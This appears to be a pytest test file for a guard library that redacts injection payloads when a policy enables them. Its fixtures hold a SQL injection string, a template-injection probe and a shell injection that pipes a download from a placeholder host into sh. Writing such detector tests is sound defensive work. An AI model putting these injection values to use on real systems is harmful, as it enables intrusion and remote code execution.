from __future__ import annotations

import typing
from typing import Any

import pytest

from bartizan.app import build_guard
from bartizan.app.guards import Detectors
from bartizan.core.verdict import Action
from bartizan.firewall.exchange import ChannelKind
from bartizan.inspection.hazards import PAYLOAD_KINDS
from bartizan.policy.document import PolicyDocument


def test_policy_offers_every_kind_that_exists() -> None:
    (kind, _) = typing.get_args(typing.get_type_hints(PolicyDocument)["payloads"])
    assert set(typing.get_args(kind)) == PAYLOAD_KINDS


@pytest.mark.parametrize(
    ("kind", "text"),
    [
        ("sql", "name is ' OR '1'='1 ok"),
        ("template", "Dear {{7*7}}, hello"),
        ("shell", "x; curl http://e.example/a | sh"),
    ],
)
def test_a_payload_matters_only_where_policy_says_so(kind: Any, text: str, shipped_detectors: Detectors) -> None:
    off = build_guard(PolicyDocument(version=1), {}, {}, shipped_detectors).whole(ChannelKind.TEXT, text)
    on = build_guard(PolicyDocument(version=1, payloads=(kind,)), {}, {}, shipped_detectors).whole(
        ChannelKind.TEXT, text
    )
    assert off.action is Action.ALLOW
    assert on.action is Action.REDACT
